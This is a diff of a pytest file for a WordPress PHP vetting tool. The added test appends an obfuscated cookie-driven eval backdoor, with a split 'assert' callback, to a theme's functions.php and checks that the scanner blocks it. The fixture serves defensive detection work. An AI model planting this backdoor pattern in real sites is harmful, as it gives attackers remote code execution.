@@ -14,17 +14,18 @@ import pytest
 from reconciler.core.vetting.php import PhpReport, analyse_php
 
 CONTENT = "usr/share/wordpress/wp-content"
+THEME = f"{CONTENT}/themes/twentytwentyone"
 MAX_FILE_S = 2
 
 # package, folder → what may be found at block and at warn; everything at block must be.
 EXPECTED: dict[tuple[str, str], tuple[set[str], set[str]]] = {
     ("wordpress-shibboleth", f"{CONTENT}/plugins/shibboleth"): (
         {"php-eval", "server-files"},
-        {"removed-function", "makes-users"},
+        {"removed-function", "makes-users", "signs-in"},
     ),
     ("wordpress-plugin-http-authentication", f"{CONTENT}/plugins/http-authentication"): (
         set(),
-        {"makes-users"},
+        {"makes-users", "signs-in"},
     ),
     ("wordpress-xrds-simple", f"{CONTENT}/plugins/xrds-simple"): (set(), set()),
     ("wordpress", f"{CONTENT}/plugins/akismet"): (set(), {"makes-administrators"}),
@@ -92,6 +93,17 @@ def test_a_real_plugin_gets_the_findings_that_were_judged_right(
     }
     assert {code for level, code in found if level == "block"} == block
     assert {code for level, code in found if level == "warn"} <= warn
+
+
+def test_a_theme_with_a_hidden_eval_is_blocked(debian: Path) -> None:
+    functions = debian / "wordpress-theme-twentytwentyone" / THEME / "functions.php"
+    hidden = b"\nadd_filter('the_content', 'ass' . 'ert');\n$a = 'ev' . 'al'; $b = $_COOKIE['wp']; @eval($b);"
+    report = analyse_php("functions.php", functions.read_bytes() + hidden)
+    assert {one.code for one in report.findings if one.level == "block"} == {
+        "decoded-code",
+        "hidden-callback",
+        "php-eval",
+    }
 
 
 def test_wordpress_itself_hides_nothing_and_is_read_to_its_end(debian: Path) -> None:
